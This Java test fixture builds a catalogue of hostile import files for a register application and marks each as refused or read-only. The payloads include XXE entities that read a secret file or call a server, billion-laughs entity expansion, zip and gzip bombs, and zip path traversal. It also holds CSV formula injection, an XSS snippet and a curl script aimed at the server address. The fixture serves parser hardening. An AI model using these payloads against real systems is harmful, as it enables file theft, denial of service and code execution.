package org.homeward.register;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that somebody made to do harm, or that an accident made so; each with what must become of it. */
final class HostileFiles {
    /** {@code REFUSED}: no row; {@code READ}: rows, with nothing done but reading. */
    enum Fate {
        REFUSED,
        READ
    }

    /** One of them. */
    record Hostile(Fate fate, byte[] bytes) {}

    private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String HEAD = "id,surname,given_name,birth_date\n";
    private static final String PFIF = "http://zesty.ca/pfif/1.4";

    private final Map<String, Hostile> all = new LinkedHashMap<>();
    private final String secret;
    private final String address;

    private HostileFiles(String secret, String address) {
        this.secret = secret;
        this.address = address;
    }

    /**
     * @param secret path of a file whose words must never be read
     * @param address of a server that must never be asked
     */
    static Map<String, Hostile> all(String secret, String address) {
        HostileFiles files = new HostileFiles(secret, address);
        try {
            files.xml();
            files.workbooks();
            files.zips();
            files.texts();
            files.bytes();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return files.all;
    }

    private void refused(String name, byte[] bytes) {
        all.put(name, new Hostile(Fate.REFUSED, bytes));
    }

    private void refused(String name, String text) {
        refused(name, text.getBytes(StandardCharsets.UTF_8));
    }

    private void read(String name, String text) {
        all.put(name, new Hostile(Fate.READ, text.getBytes(StandardCharsets.UTF_8)));
    }

    private static String pfif(String inside) {
        return "<p:pfif xmlns:p=\"" + PFIF + "\">" + inside + "</p:pfif>";
    }

    private static String person(String name) {
        return "<p:person><p:person_record_id>example.org/1</p:person_record_id><p:entry_date>2026-01-01T00:00:00Z</p:entry_date>"
                + "<p:source_date>2026-01-01T00:00:00Z</p:source_date><p:full_name>" + name
                + "</p:full_name></p:person>";
    }

    private void xml() {
        String doctype = "<!DOCTYPE x [%s]>";
        refused(
                "xxe-file.xml",
                XML + doctype.formatted("<!ENTITY e SYSTEM \"file://" + secret + "\">") + pfif(person("&e;")));
        refused(
                "xxe-http.xml",
                XML + doctype.formatted("<!ENTITY e SYSTEM \"" + address + "/e\">") + pfif(person("&e;")));
        refused(
                "xxe-parameter.xml",
                XML + doctype.formatted("<!ENTITY % e SYSTEM \"" + address + "/p\"> %e;") + pfif(person("x")));
        refused("xxe-subset.xml", XML + "<!DOCTYPE x SYSTEM \"" + address + "/dtd\">" + pfif(person("x")));
        refused(
                "xxe-utf16.xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
                                + doctype.formatted("<!ENTITY e SYSTEM \"file://" + secret + "\">")
                                + pfif(person("&e;")))
                        .getBytes(StandardCharsets.UTF_16));
        StringBuilder laughs = new StringBuilder("<!ENTITY l0 \"lol\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        refused("billion-laughs.xml", XML + doctype.formatted(laughs) + pfif(person("&l11;")));
        refused(
                "quadratic.xml",
                XML
                        + doctype.formatted("<!ENTITY q \"" + "q".repeat(50_000) + "\">")
                        + pfif(person("&q;".repeat(10_000))));
        refused("deep.xml", XML + "<a>".repeat(200_000) + "</a>".repeat(200_000));
        refused("deep-pfif.xml", XML + pfif("<p:person>".repeat(50_000)));
        refused("attributes.xml", XML + "<p:pfif xmlns:p=\"" + PFIF + "\" " + many("a%d=\"1\" ", 100_000) + "/>");
        refused("cut.xml", XML + pfif(person("x")).substring(0, 60));
        read("cdata.xml", XML + pfif(person("<![CDATA[<script>alert(1)</script>]]>")));
        refused(
                "stylesheet.xml",
                XML + "<?xml-stylesheet href=\"" + address
                        + "/s.xsl\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>");
        refused(
                "include.xml",
                XML + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://" + secret
                        + "\" parse=\"text\"/>");
        refused(
                "page.html",
                "<!DOCTYPE html><html><head><meta http-equiv=refresh content=\"0;" + address
                        + "\"></head><table><tr><td>id</table>");
        refused("svg.xml", XML + "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + address + "/i\"/></svg>");
        refused(
                "schema.xml",
                XML + "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a " + address
                        + "/x.xsd\"/>");
    }

    private static String many(String format, int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(format.formatted(i));
        }
        return text.toString();
    }

    private static String cell(String at, String words) {
        return "<c r=\"" + at + "\" t=\"inlineStr\"><is><t>" + words + "</t></is></c>";
    }

    private static Map<String, String> workbook(String rows) {
        String types = "http://schemas.openxmlformats.org/package/2006/content-types";
        String relations = "http://schemas.openxmlformats.org/package/2006/relationships";
        String kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put(
                "[Content_Types].xml",
                XML + "<Types xmlns=\"" + types + "\"><Override PartName=\"/xl/workbook.xml\" ContentType=\"" + kind
                        + "sheet.main+xml\"/><Override PartName=\"/xl/styles.xml\" ContentType=\"" + kind
                        + "styles+xml\"/></Types>");
        parts.put(
                "_rels/.rels",
                XML + "<Relationships xmlns=\"" + relations + "\"><Relationship Id=\"r1\" Type=\"" + OFFICE
                        + "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
        parts.put(
                "xl/workbook.xml",
                XML + "<workbook xmlns=\"" + MAIN + "\" xmlns:r=\"" + OFFICE
                        + "\"><sheets><sheet name=\"One\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>");
        parts.put(
                "xl/_rels/workbook.xml.rels",
                XML + "<Relationships xmlns=\"" + relations + "\"><Relationship Id=\"r1\" Type=\"" + OFFICE
                        + "/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
        parts.put(
                "xl/styles.xml",
                XML + "<styleSheet xmlns=\"" + MAIN
                        + "\"><cellXfs count=\"1\"><xf numFmtId=\"0\"/></cellXfs></styleSheet>");
        parts.put("xl/worksheets/sheet1.xml", sheet(rows));
        return parts;
    }

    private static String sheet(String rows) {
        return XML + "<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + rows + "</sheetData></worksheet>";
    }

    private static String rows(String surname) {
        return "<row r=\"1\">" + cell("A1", "id") + cell("B1", "surname") + cell("C1", "given_name")
                + "</row><row r=\"2\">" + cell("A2", "7") + cell("B2", surname) + cell("C2", "Ivan") + "</row>";
    }

    private static byte[] zip(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static Map<String, String> with(String part, String content) {
        Map<String, String> parts = workbook(rows("Testenko"));
        parts.put(part, content);
        return parts;
    }

    private void workbooks() throws IOException {
        String entity = XML + "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://" + secret + "\">]>";
        refused(
                "xxe-sheet.xlsx",
                zip(with(
                        "xl/worksheets/sheet1.xml",
                        entity + "<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + rows("&e;")
                                + "</sheetData></worksheet>")));
        refused(
                "xxe-strings.xlsx",
                zip(with("xl/sharedStrings.xml", entity + "<sst xmlns=\"" + MAIN + "\"><si><t>&e;</t></si></sst>")));
        refused("xxe-types.xlsx", zip(with("[Content_Types].xml", entity + "<Types>&e;</Types>")));
        refused(
                "xxe-remote.xlsx",
                zip(with("xl/workbook.xml", XML + "<!DOCTYPE x SYSTEM \"" + address + "/w\"><workbook/>")));
        // A link that nobody follows.
        all.put(
                "link.xlsx",
                new Hostile(
                        Fate.READ,
                        zip(with(
                                "xl/worksheets/_rels/sheet1.xml.rels",
                                XML
                                        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r9\" Type=\""
                                        + OFFICE + "/externalLink\" Target=\"" + address
                                        + "/l\" TargetMode=\"External\"/></Relationships>"))));
        refused("macro.xlsx", zip(with("xl/vbaProject.bin", "macro")));
        refused("path.xlsx", zip(with("../../../../x", "out")));
        refused("absolute.xlsx", zip(with("/etc/cron.d/x", "out")));
        refused("backslash.xlsx", zip(with("..\\..\\x", "out")));
        refused("no-sheet.xlsx", zip(with("xl/worksheets/sheet1.xml", "")));
        refused("sheet-that-is-no-xml.xlsx", zip(with("xl/worksheets/sheet1.xml", "\u0000\u0001\u0002")));
        refused("column-beyond-the-last.xlsx", zip(workbook("<row r=\"1\">" + cell("ZZZZZZ1", "id") + "</row>")));
        refused(
                "row-beyond-the-last.xlsx",
                zip(workbook("<row r=\"2147483647\">" + cell("A2147483647", "id") + "</row>")));
        StringBuilder wide = new StringBuilder("<row r=\"1\">");
        for (int i = 0; i < 16_384; i++) {
            wide.append("<c t=\"inlineStr\"><is><t>c").append(i).append("</t></is></c>");
        }
        refused("wide.xlsx", zip(workbook(wide + "</row>")));
        refused(
                "strings-that-are-not-there.xlsx",
                zip(workbook("<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99999999</v></c></row>")));
        String formula =
                "<row r=\"1\">" + cell("A1", "id") + cell("B1", "surname") + "</row><row r=\"2\">" + cell("A2", "1")
                        + "<c r=\"B2\" t=\"str\"><f>WEBSERVICE(\"" + address + "/f\")</f><v>Testenko</v></c></row>";
        all.put("formula.xlsx", new Hostile(Fate.READ, zip(workbook(formula))));
        all.put("bidirectional.xlsx", new Hostile(Fate.READ, zip(workbook(rows("\u202eoknetseT\u202c")))));
    }

    private void zips() throws IOException {
        byte[] zeros = new byte[60 << 20];
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bomb)) {
            for (int i = 0; i < 20; i++) {
                zip.putNextEntry(new ZipEntry("xl/part" + i));
                zip.write(zeros);
                zip.closeEntry();
            }
        }
        refused("bomb.xlsx", bomb.toByteArray());
        Map<String, String> crowd = workbook(rows("Testenko"));
        for (int i = 0; i < 20_000; i++) {
            crowd.put("xl/p" + i, "");
        }
        refused("crowd.xlsx", zip(crowd));
        byte[] inner = zip(workbook(rows("Testenko")));
        for (int i = 0; i < 10; i++) {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                zip.putNextEntry(new ZipEntry("register.xlsx"));
                zip.write(inner);
                zip.closeEntry();
            }
            inner = bytes.toByteArray();
        }
        refused("nested.zip", inner);
        refused("other-files.zip", zip(Map.of("register.csv", HEAD + "1,Testenko,Ivan,1990\n")));
        byte[] sound = zip(workbook(rows("Testenko")));
        refused("cut.xlsx", Arrays.copyOf(sound, sound.length / 2));
        // Every part is whole; what is cut or lies is the directory, which is not asked.
        all.put("cut-at-the-end.xlsx", new Hostile(Fate.READ, Arrays.copyOf(sound, sound.length - 10)));
        byte[] lie = sound.clone();
        for (int i = 0; i < lie.length - 4; i++) {
            if (lie[i] == 'P' && lie[i + 1] == 'K' && lie[i + 2] == 1 && lie[i + 3] == 2) {
                // The directory's word on the unpacked size: four gibibytes less one.
                Arrays.fill(lie, i + 24, i + 28, (byte) 0xff);
            }
        }
        all.put("a-directory-that-lies.xlsx", new Hostile(Fate.READ, lie));
        ByteArrayOutputStream gzip = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(gzip)) {
            out.write(zeros);
        }
        refused("bomb.csv.gz", gzip.toByteArray());
        refused("png-before.xlsx", join(png(), sound));
        refused(
                "pdf-before.xlsx",
                join("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n".getBytes(StandardCharsets.US_ASCII), sound));
    }

    private static byte[] join(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    private static byte[] png() {
        byte[] head = {
            (byte) 0x89,
            'P',
            'N',
            'G',
            '\r',
            '\n',
            0x1a,
            '\n',
            0,
            0,
            0,
            13,
            'I',
            'H',
            'D',
            'R',
            0,
            0,
            0,
            1,
            0,
            0,
            0,
            1,
            8,
            2,
            0,
            0,
            0
        };
        CRC32 crc = new CRC32();
        crc.update(head, 12, 17);
        return head;
    }

    private void texts() {
        read(
                "formulas.csv",
                HEAD + "1,=cmd|' /C calc'!A0,+1+1,1990\n2,@SUM(A1),-2,1991\n3,\"=HYPERLINK(\"\"" + address
                        + "\"\")\",\tx,1992\n");
        read("bidirectional.csv", HEAD + "1,\u202eoknetseT,\u2066Ivan\u2069,1990\n2,Test\u200benko,I\u00advan,1990\n");
        read("combining.csv", HEAD + "1,T" + "\u0301".repeat(5_000) + "estenko,Ivan,1990\n");
        read("markup.csv", HEAD + "1,<img src=x onerror=alert(1)>,\"<script src='" + address + "'></script>\",1990\n");
        refused("million-columns.csv", many("c%d,", 1_000_000) + "\n1\n");
        refused("million-separators.csv", ",".repeat(1_000_000) + "\n" + ",".repeat(1_000_000));
        refused("one-line.csv", "x".repeat(40_000_000));
        refused("open-quote.csv", HEAD + "1,\"" + "x,\n".repeat(3_000_000));
        refused("quotes.csv", "\"".repeat(5_000_001));
        refused("line-ends.csv", "\n".repeat(20_000_000));
        refused("carriage-returns.csv", "\r".repeat(20_000_000));
        refused("spaces.csv", " ".repeat(20_000_000));
        refused("tabs.csv", "\t".repeat(5_000_000));
        refused("only-a-header.csv", HEAD);
        read("header-of-one-name.csv", many("surname,", 199) + "surname\nTestenko\n");
        refused("json.csv", "[".repeat(1_000_000));
        refused("mail.csv", "From: a@example.org\nTo: b@example.org\nSubject: list\n\nbody\n");
        refused("script.csv", "#!/bin/sh\ncurl " + address + "\n");
    }

    private void bytes() {
        refused("nothing.csv", new byte[0]);
        refused("zeros.csv", new byte[10_000_000]);
        byte[] noise = new byte[5_000_000];
        new Random(20260205).nextBytes(noise);
        refused("noise.csv", noise);
        refused("noise-as-workbook.xlsx", join(new byte[] {'P', 'K', 3, 4}, noise));
        refused(
                "old-workbook.xls",
                join(
                        new byte[] {
                            (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1
                        },
                        new byte[4096]));
        refused("picture.csv", join(png(), new byte[1000]));
        refused("program.csv", join(new byte[] {0x7f, 'E', 'L', 'F'}, new byte[4096]));
        refused("mark-alone.csv", new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf});
        refused("half-a-character.csv", new byte[] {(byte) 0xff, (byte) 0xfe, 0x41});
        refused("utf-32.csv", HEAD.concat("1,T,I,1990\n").getBytes(Charset.forName("UTF-32")));
        refused("lone-surrogates.csv", new byte[] {(byte) 0xff, (byte) 0xfe, 0, (byte) 0xd8, 0, (byte) 0xd8, 10, 0});
    }
}
